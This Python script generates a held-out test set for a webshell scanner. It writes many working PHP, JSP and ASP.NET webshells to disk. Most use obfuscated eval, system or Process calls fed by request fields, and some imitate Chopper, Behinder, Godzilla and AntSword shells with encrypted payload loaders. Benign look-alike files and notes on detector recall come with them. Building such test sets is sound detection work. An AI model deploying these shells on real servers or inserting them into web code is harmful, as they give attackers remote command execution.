#!/usr/bin/env python3
"""Writes the FOURTH held-out evaluation set for the webshell scanner, now tuning data:
samples/generic_eval4_*, known_misses/eval4_* (still missed: documented gaps; none after the
iteration) and benign/eval4_*.

History: committed (as heldout/, make_heldout.py, seed 20261208) on 2026-12-06 before the
detector was run on it; first measurement 17/61 = 27.9 % recall, 0/20 look-alikes flagged (the
honest figure). Its miss list was seen, so one generic tuning iteration followed (61/61 and 0/20
after: tuned figures; docs/webshell.md), and it moved here. The fifth set is written blind by
someone else and goes to heldout/.

Written after the third set (make_eval3.py) had been used for one tuning iteration. It avoids
the earlier sets' shapes: other request fields as payload (session id cookie, HTTP basic-auth
password, PATH_INFO, register-globals emulation), calls through magic methods (__call,
__invoke), method callbacks, PHP 8 match, names indexed out of range('a', 'z'), JNDI /
XMLDecoder / ObjectInputStream / JShell in JSP, Activator and VB.NET Shell in ASP.NET, and the
families' shells in still other layouts. No downloaded malware; keys and names are made up.

    python3 make_eval4.py        # rewrites the files listed above (seed 20261208)
"""
import base64
import os
import random

SEED = 20261208
HERE = os.path.dirname(os.path.abspath(__file__))
# Shells of this set the scanner still misses after the tuning iteration (docs/webshell.md).
KNOWN_MISSES = set()


def key16(rng):
    return "".join(rng.choice("0123456789abcdef") for _ in range(16))


def pname(rng):
    return rng.choice(["w", "go", "ctx", "ref2", "vk", "pg", "ts", "hl", "dn"])


SOURCES = [
    "session_id()",                               # after session_start(): the PHPSESSID cookie
    "$_SERVER['PHP_AUTH_PW']",
    "$_SERVER['PATH_INFO']",
    "getenv('QUERY_STRING')",
    "$_SERVER['HTTP_ACCEPT_LANGUAGE']",
    "array_slice($_POST, 0, 1)[0]",
    "$_SERVER['argv'][0]",
    "$cmd",                                        # set by register-globals emulation below
    "$pr['{k}']",                                  # parse_str(php://input, $pr)
    "$_REQUEST['{k}'] ?? ''",
]

TECHNIQUES = [
    "magic_call", "invoke_object", "method_callback", "match_name", "range_name", "entity_name",
    "array_object_uasort", "constant_name", "ltrim_name", "generator_name", "interp_name",
    "callable_array_reflection",
]


def php_shell(rng, i):
    k = pname(rng)
    src = rng.choice(SOURCES).format(k=k)
    pre = ""
    if src == "session_id()":
        pre = "session_start();\n"
    if src == "$cmd":
        pre = "foreach ($_REQUEST as $_k => $_v) { $$_k = $_v; }\n"
    if src.startswith("$pr"):
        pre = "parse_str(file_get_contents('php://input'), $pr);\n"
    v = rng.choice(["$p", "$line", "$q2", "$op"])
    pre += "%s = %s;\n" % (v, src)
    cmd = rng.choice(["system", "passthru", "shell_exec"])
    tech = TECHNIQUES[i % len(TECHNIQUES)]
    if tech == "magic_call":
        body = ("class Proxy%d { function __call($n, $a) { return $n(...$a); } }\n"
                "echo (new Proxy%d())->%s(%s);\n" % (i, i, cmd, v))
    elif tech == "invoke_object":
        body = ("class Job%d { function __invoke($c) { return %s($c); } }\n"
                "$j = new Job%d();\necho $j(%s);\n" % (i, cmd, i, v))
    elif tech == "method_callback":
        body = ("class Runner%d { function go($c) { %s($c); } }\n"
                "call_user_func(array(new Runner%d(), 'go'), %s);\n" % (i, cmd, i, v))
    elif tech == "match_name":
        body = "$f = match (strlen('ab')) { 2 => '%s', default => 'trim' };\necho $f(%s);\n" % (cmd, v)
    elif tech == "range_name":
        idx = ".".join("$a[%d]" % (ord(c) - 97) if c.isalpha() else "'_'" for c in cmd)
        body = "$a = range('a', 'z');\n$f = %s;\n$f(%s);\n" % (idx, v)
    elif tech == "entity_name":
        ent = "".join("&#%d;" % ord(c) for c in cmd)
        body = "$f = html_entity_decode('%s');\n$f(%s);\n" % (ent, v)
    elif tech == "array_object_uasort":
        body = "$o = new ArrayObject(array(%s, 'x'));\n$o->uasort('assert');\n" % v
    elif tech == "constant_name":
        body = "define('RUNNER', '%s');\necho constant('RUNNER')(%s);\n" % (cmd, v)
    elif tech == "ltrim_name":
        body = "$f = ltrim('xx%s', 'x');\n$f(%s);\n" % (cmd, v)
    elif tech == "generator_name":
        body = ("function names() { yield 'trim'; yield '%s'; }\n"
                "foreach (names() as $fn) { $out = $fn(%s); }\necho $out;\n" % (cmd, v))
    elif tech == "interp_name":
        body = "$part = 'tem';\n$f = \"sys{$part}\";\n$f(%s);\n" % v
    else:  # callable_array_reflection
        body = ("call_user_func_array(array(new ReflectionFunction('%s'), 'invoke'), array(%s));\n"
                % (cmd, v))
    head = rng.choice(["", "/* widget */\n", "ignore_user_abort(true);\n", "ob_implicit_flush();\n"])
    return "<?php\n" + head + pre + body


def families(rng):
    out = {}
    p = pname(rng)
    out["chopper_php_short_tag.php"] = "<?=@eval($_POST['%s']);?>\n" % p
    out["chopper_php_array_key.php"] = "<?php $k = array('%s' => ''); foreach ($_POST as $n => $c) { if (isset($k[$n])) @eval($c); }\n" % p
    out["chopper_asp_colon.asp"] = "<%% a=request(\"%s\"):execute a %%>\n" % pname(rng)
    out["behinder_php_v3_xor_fallback.php"] = """<?php
@error_reporting(0);
session_start();
$key="%s";
$_SESSION['k']=$key;
$f='file'.'_get'.'_contents';
$p='|||||||||||'^chr(12).chr(20).chr(12).chr(70).chr(83).chr(83).chr(21).chr(18).chr(12).chr(9).chr(8);
$text=$f($p);
$t="base64_"."decode";
$text=$t($text."");
for($i=0;$i<strlen($text);$i++) { $text[$i] = $text[$i]^$key[$i+1&15]; }
$a=explode('|',$text);
class K{public function __invoke($p){eval($p."");}}
@call_user_func(new K(),$a[1]);
""" % key16(rng)
    out["godzilla_php_b64_renamed_fns.php"] = """<?php
@session_start();
@set_time_limit(0);
function x1($D,$K){for($i=0;$i<strlen($D);$i++){$D[$i]=$D[$i]^$K[$i+1&15];}return $D;}
$pw='%s';$sk='cache_blob';$ky='%s';
if(isset($_POST[$pw])){
  $d=x1(base64_decode($_POST[$pw]),$ky);
  if(isset($_SESSION[$sk])){$pl=x1($_SESSION[$sk],$ky);if(strpos($pl,"getBasicsInfo")===false){$pl=x1($pl,$ky);}
    $run=create_function('',$pl);$run();echo substr(md5($pw.$ky),0,16);echo base64_encode(x1(@run($d),$ky));echo substr(md5($pw.$ky),16);}
  else{if(strpos($d,"getBasicsInfo")!==false){$_SESSION[$sk]=x1($d,$ky);}}
}
""" % (pname(rng), key16(rng))
    out["godzilla_jsp_classloader_field.jsp"] = """<%! String xc="{k}"; String pass="{p}";
class X extends ClassLoader{{public X(ClassLoader z){{super(z);}}public Class Q(byte[] cb){{return super.defineClass(cb, 0, cb.length);}} }}
%><% byte[] data = java.util.Base64.getDecoder().decode(request.getParameter(pass));
javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); c.init(2, new javax.crypto.spec.SecretKeySpec(xc.getBytes(), "AES")); data = c.doFinal(data);
if (application.getAttribute(pass) == null) {{ application.setAttribute(pass, new X(this.getClass().getClassLoader()).Q(data)); }}
else {{ Object f = ((Class) application.getAttribute(pass)).newInstance(); f.equals(pageContext); }} %>
""".format(k=key16(rng), p=pname(rng))
    out["behinder_aspx_assembly_var.aspx"] = (
        "<%@ Page Language=\"C#\" %><% string k = \"" + key16(rng) + "\"; Session[\"sk\"] = k; "
        "var kb = System.Text.Encoding.Default.GetBytes(k); var body = Request.BinaryRead(Request.ContentLength); "
        "var dec = new System.Security.Cryptography.AesManaged().CreateDecryptor(kb, kb).TransformFinalBlock(body, 0, body.Length); "
        "var asm = System.Reflection.Assembly.Load(dec); asm.CreateInstance(\"U\").Equals(this); %>\n")
    ap = rng.choice(["ant", "as1"])
    out["antsword_php_chr_callback.php"] = (
        "<?php\n$f = chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);\n"
        "array_map($f, array($_POST['%s']));\n" % ap)
    out["antsword_jsp_custom.jsp"] = (
        "<%@page import=\"java.io.*\"%><%! String Pwd = \"" + ap + "\"; String EC(String s) throws Exception { return s; } %>"
        "<% String Z = EC(request.getParameter(Pwd) + \"\"); if (Z.equals(\"E\")) { String[] c = { \"/bin/sh\", \"-c\", "
        "EC(request.getParameter(\"z1\") + \"\") }; Process p = Runtime.getRuntime().exec(c); "
        "BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream())); String l; "
        "while ((l = r.readLine()) != null) out.println(l); } %>\n")
    out["antsword_asp_eval_form.asp"] = "<%%eval request.form(\"%s\")%%>\n" % ap
    return out


JSP = {
    "jsp_jndi_lookup.jsp": '<%% new javax.naming.InitialContext().lookup(request.getParameter("%s")); %%>\n',
    "jsp_xmldecoder.jsp": ('<%% java.beans.XMLDecoder d = new java.beans.XMLDecoder(request.getInputStream()); '
                           'd.readObject(); /* %s */ %%>\n'),
    "jsp_objectinputstream.jsp": ('<%% java.io.ObjectInputStream ois = new java.io.ObjectInputStream('
                                  'java.util.Base64.getDecoder().wrap(request.getInputStream())); ois.readObject(); '
                                  '/* %s */ %%>\n'),
    "jsp_jshell.jsp": ('<%% jdk.jshell.JShell js = jdk.jshell.JShell.create(); '
                       'js.eval(request.getParameter("%s")).forEach(e -> {}); %%>\n'),
    "jsp_param_values_pb.jsp": ('<%% java.util.List<String> c = java.util.Arrays.asList(request.getParameterValues("%s")); '
                                'Process p = new ProcessBuilder(c).start(); out.print(new String(p.getInputStream().readAllBytes())); %%>\n'),
    "jsp_file_dropper.jsp": ('<%% java.io.FileOutputStream fo = new java.io.FileOutputStream(application.getRealPath("/") + '
                             'request.getParameter("%s")); fo.write(request.getParameter("d").getBytes()); fo.close(); %%>\n'),
    "jsp_class_newinstance.jsp": ('<%% Class<?> k = Class.forName(request.getParameter("%s")); '
                                  'k.getConstructor(String.class).newInstance(request.getParameter("a")); %%>\n'),
    "jsp_split_exec.jsp": ('<%% String line = request.getHeader("X-%s"); if (line != null) { '
                           'Runtime rt = Runtime.getRuntime(); rt.exec(line.split(" ")); } %%>\n'),
    "jsp_forname_string_build.jsp": ('<%% String n = new StringBuilder("emitnuR.gnal.avaj").reverse().toString(); '
                                     'Object r = Class.forName(n).getMethod("getRuntime").invoke(null); '
                                     'r.getClass().getMethod("exec", String.class).invoke(r, request.getParameter("%s")); %%>\n'),
}

ASP = {
    "asp_jscript_function.asp": '<%%@ Language="JScript" %%><%% (new Function(Request("%s") + ""))(); %%>\n',
    "asp_cookie_execute.asp": '<%%\nDim s\ns = Request.Cookies("%s")\nIf Len(s) > 0 Then Execute s\n%%>\n',
    "asp_getref_like.asp": ('<%%\nSub Run(c)\n  Execute c\nEnd Sub\nRun Request.QueryString("%s")\n%%>\n'),
    "asp_wscript_var.asp": ('<%%\nDim sh, c\nSet sh = CreateObject("WScript.Shell")\nc = "cmd /c " & Request.Form("%s")\n'
                            'Response.Write sh.Exec(c).StdOut.ReadAll()\n%%>\n'),
    "aspx_activator.aspx": ('<%%@ Page Language="C#" %%><%% dynamic sh = Activator.CreateInstance(Type.GetTypeFromProgID('
                            '"WScript.Shell")); Response.Write(sh.Exec("cmd /c " + Request["%s"]).StdOut.ReadAll()); %%>\n'),
    "aspx_vb_shell.aspx": ('<%%@ Page Language="VB" %%><%% Shell("cmd.exe /c " & Request.QueryString("%s"), '
                           'AppWinStyle.Hide) %%>\n'),
    "aspx_xslt_script.aspx": ('<%%@ Page Language="C#" %%><%% var x = new System.Xml.Xsl.XslCompiledTransform(); '
                              'x.Load(System.Xml.XmlReader.Create(new System.IO.StringReader(Request.Form["%s"])), '
                              'new System.Xml.Xsl.XsltSettings(false, true), null); %%>\n'),
    "aspx_process_var.aspx": ('<%%@ Page Language="C#" %%><%% string a = Request.Form["%s"]; '
                              'var psi = new System.Diagnostics.ProcessStartInfo(); psi.FileName = "cmd.exe"; '
                              'psi.Arguments = "/c " + a; psi.RedirectStandardOutput = true; psi.UseShellExecute = false; '
                              'Response.Write(System.Diagnostics.Process.Start(psi).StandardOutput.ReadToEnd()); %%>\n'),
    "ashx_assembly.ashx": ('<%%@ WebHandler Language="C#" Class="H" %%>\npublic class H : System.Web.IHttpHandler {\n'
                           '  public void ProcessRequest(System.Web.HttpContext c) {\n'
                           '    var b = System.Convert.FromBase64String(c.Request.Form["%s"]);\n'
                           '    System.Reflection.Assembly.Load(b).CreateInstance("P").Equals(c);\n  }\n'
                           '  public bool IsReusable { get { return false; } }\n}\n'),
}

BENIGN = {
    "php_service_proxy.php": """<?php
// Forwards calls to a whitelisted remote service.
class ServiceProxy {
    private $allowed = array('getNews', 'getWeather');
    function __call($name, $args) {
        if (!in_array($name, $this->allowed, true)) throw new BadMethodCallException($name);
        return $this->client->request($name, $args);
    }
}
echo json_encode((new ServiceProxy())->getNews((int) ($_GET['id'] ?? 0)));
""",
    "php_middleware.php": """<?php
class TrimInput { function __invoke($req) { return array_map('trim', $req); } }
$mw = new TrimInput();
$clean = $mw($_POST);
echo htmlspecialchars($clean['name'] ?? '');
""",
    "php_match_route.php": """<?php
$handler = match ($_GET['view'] ?? 'list') { 'list' => 'render_list', 'item' => 'render_item', default => 'render_404' };
if (function_exists($handler)) echo $handler((int) ($_GET['id'] ?? 0));
""",
    "php_letters.php": """<?php
// A-Z index of the site directory.
foreach (range('a', 'z') as $l) { printf('<a href="?letter=%s">%s</a> ', $l, strtoupper($l)); }
""",
    "php_entities.php": """<?php
$title = html_entity_decode($row['title'], ENT_QUOTES, 'UTF-8');
echo htmlspecialchars($title);
""",
    "php_basic_auth.php": """<?php
if (!isset($_SERVER['PHP_AUTH_PW']) || !password_verify($_SERVER['PHP_AUTH_PW'], $hash)) {
    header('WWW-Authenticate: Basic realm="admin"');
    http_response_code(401);
    exit;
}
""",
    "php_session_log.php": """<?php
session_start();
error_log('session ' . substr(hash('sha256', session_id()), 0, 12) . ' ' . $_SERVER['PATH_INFO']);
""",
    "php_method_callbacks.php": """<?php
class Sorter { function byDate($a, $b) { return strcmp($a['d'], $b['d']); } }
usort($rows, array(new Sorter(), 'byDate'));
$o = new ArrayObject($rows);
$o->uasort(array(new Sorter(), 'byDate'));
""",
    "php_constants.php": """<?php
define('DEFAULT_FORMAT', 'Y-m-d');
echo date(constant('DEFAULT_FORMAT'));
""",
    "php_generator.php": """<?php
function lines($f) { $h = fopen($f, 'r'); while (($l = fgets($h)) !== false) yield trim($l); }
foreach (lines(__DIR__ . '/data/list.txt') as $l) echo htmlspecialchars($l), "<br>";
""",
    "php_register_globals_shim.php": """<?php
// Old template compatibility: copies whitelisted fields only.
foreach (array('page', 'lang') as $_k) { $$_k = isset($_GET[$_k]) ? preg_replace('/[^a-z0-9]/', '', $_GET[$_k]) : ''; }
echo htmlspecialchars($page . '/' . $lang);
""",
    "jsp_jndi_datasource.jsp": """<%@ page import="javax.naming.*,javax.sql.*" %>
<% DataSource ds = (DataSource) new InitialContext().lookup("java:comp/env/jdbc/portal");
   String id = request.getParameter("id");
   out.print(ds != null && id != null ? "ok" : "none"); %>
""",
    "jsp_config_decoder.jsp": """<%@ page import="java.beans.XMLDecoder,java.io.*" %>
<% try (XMLDecoder d = new XMLDecoder(new FileInputStream(application.getRealPath("/WEB-INF/menu.xml")))) {
     out.print(d.readObject()); }
   String lang = request.getParameter("lang"); %>
""",
    "jsp_cache_read.jsp": """<%@ page import="java.io.*" %>
<% try (ObjectInputStream in = new ObjectInputStream(new FileInputStream("/var/cache/portal/nav.ser"))) {
     out.print(in.readObject()); }
   out.print(request.getParameter("q") == null ? "" : "search"); %>
""",
    "jsp_driver.jsp": """<% Class.forName("com.mysql.cj.jdbc.Driver").getConstructor().newInstance();
   String page_ = request.getParameter("page"); %>
""",
    "asp_sub_call.asp": """<%
Sub Init()
  Response.Write "ready"
End Sub
Execute "Call Init()"
Response.Write Server.HTMLEncode(Request.QueryString("msg"))
%>
""",
    "asp_jscript_function.asp": """<%@ Language="JScript" %>
<% var add = new Function("a", "b", "return a + b;"); Response.Write(add(1, 2) + Server.HTMLEncode(String(Request("q")))); %>
""",
    "aspx_vb_backup.aspx": """<%@ Page Language="VB" %>
<% If Request.QueryString("run") = "1" Then Shell("c:\\backup\\backup.cmd", AppWinStyle.Hide) %>
""",
    "aspx_activator_fixed.aspx": """<%@ Page Language="C#" %>
<% var t = Type.GetType("Portal.Widgets.Calendar, Portal");
   var w = Activator.CreateInstance(t);
   Response.Write(Server.HtmlEncode(w.ToString() + Request["m"])); %>
""",
    "ashx_thumbnail.ashx": """<%@ WebHandler Language="C#" Class="T" %>
public class T : System.Web.IHttpHandler {
  public void ProcessRequest(System.Web.HttpContext c) {
    var id = int.Parse(c.Request["id"] ?? "0");
    c.Response.TransmitFile(c.Server.MapPath("~/thumbs/" + id + ".png"));
  }
  public bool IsReusable { get { return true; } }
}
""",
}


def main():
    rng = random.Random(SEED)
    dirs = {d: os.path.join(HERE, d) for d in ("samples", "known_misses", "benign")}
    for d in dirs.values():
        os.makedirs(d, exist_ok=True)
        for old in os.listdir(d):
            if old.startswith(("generic_eval4_", "eval4_")):
                os.remove(os.path.join(d, old))
    files = families(rng)
    for i in range(33):
        ext = "php" if i % 8 else rng.choice(["phtml", "php5", "shtml.php"])
        files["php_%02d_%s.%s" % (i, TECHNIQUES[i % len(TECHNIQUES)], ext)] = php_shell(rng, i)
    for name, t in JSP.items():
        files[name] = t % pname(rng)
    for name, t in ASP.items():
        files[name] = t % pname(rng)
    for name, text in files.items():
        path = (os.path.join(dirs["known_misses"], "eval4_" + name) if name in KNOWN_MISSES
                else os.path.join(dirs["samples"], "generic_eval4_" + name))
        with open(path, "w", encoding="latin-1") as f:
            f.write(text)
    for name, text in BENIGN.items():
        with open(os.path.join(dirs["benign"], "eval4_" + name), "w") as f:
            f.write(text)
    print("wrote %d malicious (%d known misses) and %d benign files" % (
        len(files), len(KNOWN_MISSES), len(BENIGN)))


if __name__ == "__main__":
    main()
